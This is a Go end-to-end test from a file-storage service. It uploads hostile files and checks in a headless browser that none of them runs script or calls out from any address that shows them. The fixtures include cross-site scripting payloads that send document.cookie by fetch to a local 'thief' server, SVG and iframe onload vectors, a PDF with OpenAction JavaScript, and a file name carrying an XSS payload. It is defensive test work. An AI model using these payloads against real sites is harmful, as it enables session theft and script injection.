package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	browserdomain "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"

	"github.com/portico-id/portico/internal/harness/pgtest"
	"github.com/portico-id/portico/storage"
)

// thief is a server that what is hostile calls from wherever it gets to.
type thief struct {
	*httptest.Server
	mu  sync.Mutex
	got []string
}

func newThief(t *testing.T) *thief {
	s := &thief{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		if r.URL.Path == "/lair" { // the page of its own, on which everything runs
			w.Header().Set("Content-Type", "text/html")
			_, _ = fmt.Fprint(w, s.page("lair"))
			return
		}
		s.got = append(s.got, r.URL.String())
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *thief) loot() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string{}, s.got...)
}

// program opens a window and tells of cookies, if it runs.
func (s *thief) program(mark string) string {
	return fmt.Sprintf(`alert("%[2]s");fetch("%[1]s/script-%[2]s?"+document.cookie);`, s.URL, mark)
}

func (s *thief) page(mark string) string {
	return fmt.Sprintf(`<!DOCTYPE html><html><head><base href="%[1]s/"></head><body onload='%[3]s'><script>%[3]s</script>
<img src="%[1]s/image-%[2]s"><link rel="stylesheet" href="%[1]s/style-%[2]s"><iframe src='javascript:%[3]s'></iframe>
<form action="%[1]s/form-%[2]s"></form><meta http-equiv="refresh" content="0;url=%[1]s/refresh-%[2]s"></body></html>`,
		s.URL, mark, s.program(mark))
}

func (s *thief) svg(mark string) string {
	return fmt.Sprintf(`<svg xmlns="http://www.w3.org/2000/svg" onload='%[3]s'><script>%[3]s</script>
<image href="%[1]s/svg-%[2]s"/></svg>`, s.URL, mark, s.program(mark))
}

// files are what is hostile, by name. What they hold is not always what they are called.
func (s *thief) files() map[string]string {
	pdf := fmt.Sprintf("%%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);"+
		"app.launchURL\\('%s/pdf'\\);)>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page"+
		"/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\ntrailer<</Root 1 0 R>>\n%%%%EOF\n", s.URL)
	return map[string]string{
		"page.html": s.page("html"), "page.pdf": s.page("named-pdf"), "page.png": s.page("named-png"),
		"drawing.svg": s.svg("svg"), "drawing.txt": s.svg("named-txt"),
		"tree.xml": `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="` + s.URL + `/xsl"?>
<html xmlns="http://www.w3.org/1999/xhtml"><script>` + s.program("xml") + `</script></html>`,
		"polyglot.pdf": pdf + s.page("polyglot"), "late.txt": strings.Repeat("a line\n", 200) + s.page("late"),
		"'&lt;img src=x onerror=alert(1)&gt; {{7&7}}.txt": "a text, " + s.page("hostile-name"),
	}
}

// hold is a quay with a folder of hostile files.
type hold struct {
	*quay
	person *visitor
	folder string
}

func newHold(t *testing.T, database string, bucket bool, files map[string]string) *hold {
	t.Helper()
	h := &hold{quay: newQuay(t, database, bucket)}
	const email = "crane@example.test"
	h.site.person(email)
	h.command("", "member", "add", "--project", h.project, "--user", email, "--role", "admin")
	h.person = h.signedIn(email)
	h.folder = "/files/projects/" + h.project + "/folders/" + folderURN(h.quay.files)
	for name, body := range files {
		for _, end := range []string{"", "\n"} { // two versions, to be compared
			got := h.person.uploadAs(name, h.folder+"/upload", "files", []byte(body+end))
			if got.Status != http.StatusSeeOther {
				t.Fatalf("%s: %d\n%s", name, got.Status, got.Body)
			}
		}
	}
	return h
}

// addresses are every address that shows something of a file.
func (h *hold) addresses(i storage.ItemWithTip) []string {
	h.Helper()
	project := "/files/projects/" + h.project
	item := project + "/items/" + itemURN(i.Item.ID)
	version := project + "/versions/" + url.PathEscape(versionURN(i.Item.ID, i.Tip.Number))
	all := []string{item, item + "/activity", item + "/compare", version, version + "/bytes", version + "/shown",
		version + "/picture"}
	object := "/oss/v2/buckets/" + i.Tip.Bucket + "/objects/" + url.PathEscape(i.Tip.ObjectKey)
	all = append(all, object)
	for _, query := range []string{"", "response-content-disposition=inline",
		"response-content-disposition=inline&response-content-type=text/plain",
		"response-content-disposition=inline&response-content-type=image/png",
		"response-content-disposition=inline&response-content-type=application/pdf"} {
		if address := h.signed(object + "/signeds3download?" + query); address != "" {
			all = append(all, address)
		}
	}
	for _, media := range []string{"text/html", "image/svg+xml", "application/xml", "application/xhtml+xml"} {
		if address := h.signed(object + "/signeds3download?response-content-type=" + url.QueryEscape(media)); address != "" {
			h.Errorf("%s is given out as %s", i.Item.Name, media)
		}
	}
	return all
}

// signed is the address that a call gives, without the site's own; "" when it is refused.
func (h *hold) signed(path string) string {
	h.Helper()
	var told struct{ URL string }
	if got := h.bearing(h.token, http.MethodGet, path, ""); got.Status == http.StatusOK {
		h.must(json.Unmarshal([]byte(got.Body), &told))
	}
	return strings.TrimPrefix(told.URL, h.URL)
}

// archives are the addresses of the folder as a ZIP file, of pages and of the API.
func (h *hold) archives() []string {
	h.Helper()
	made := h.person.press(h.folder + "/zip")
	got := h.bearing(h.token, http.MethodPost, "/files/v1/projects/"+h.project+"/archives",
		`{"folder":"`+folderURN(h.quay.files)+`"}`)
	var told struct{ URL string }
	h.must(json.Unmarshal([]byte(got.Body), &told))
	return []string{made.Header.Get("Location"), strings.TrimPrefix(told.URL, h.URL)}
}

// visits goes to an address, whatever comes of it: what is saved leads nowhere.
func (b *tab) visits(address string) {
	b.Helper()
	b.patiently()
	err := chromedp.Do(b.ctx, chromedp.Navigate(address))
	if err != nil && !strings.Contains(err.Error(), "net::ERR_ABORTED") {
		b.Fatalf("opening %s: %v", address, err)
	}
}

// Rule: OBJ-25
func TestNothingInBytesRunsOrLearnsAnythingAtAnyAddressThatShowsThem(t *testing.T) {
	t.Parallel()
	browser := chromium(t)
	at := func(name string, database func(testing.TB) string, bucket bool) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			robber := newThief(t)
			h := newHold(t, database(t), bucket, robber.files())
			found, err := h.store.ListContents(t.Context(), h.project, h.quay.files, storage.ContentsQuery{},
				storage.DataPage{})
			h.must(err)
			addresses := append(h.archives(), h.folder, h.folder+"/search?q=a", h.folder+"/activity")
			for _, i := range found.Items {
				if i.Tip.ObjectKey != "" {
					addresses = append(addresses, h.addresses(i)...)
				}
			}
			b := newTab(t, browser, true)
			b.continues(h.person)
			heard := &dialogs{ctx: b.whole}
			h.must(chromedp.Listen(b.whole, heard.hear))
			h.must(saveNothing(b))
			for _, address := range addresses {
				if strings.HasPrefix(address, "/") {
					address = h.URL + address
				}
				b.visits(address)
				if got, said := robber.loot(), heard.all(); len(got)+len(said) > 0 {
					t.Fatalf("%s: the thief has %q, and windows say %q", address, got, said)
				}
			}
			t.Logf("%d addresses", len(addresses))

			b.visits(robber.URL + "/lair")
			eventually(t, patience/10, "what runs is heard", func() bool {
				return len(robber.loot()) > 3 && len(heard.all()) > 0
			})
		})
	}
	at("sqlite, files", sqliteURL, false)
	at("postgres, S3", pgtest.URL, true)
}

// saveNothing has the tab's window save no file.
func saveNothing(b *tab) error {
	_, err := chromedp.Call(b.ctx, browserdomain.SetDownloadBehavior,
		browserdomain.SetDownloadBehaviorParams{Behavior: browserdomain.SetDownloadBehaviorBehaviorDeny})
	return err
}
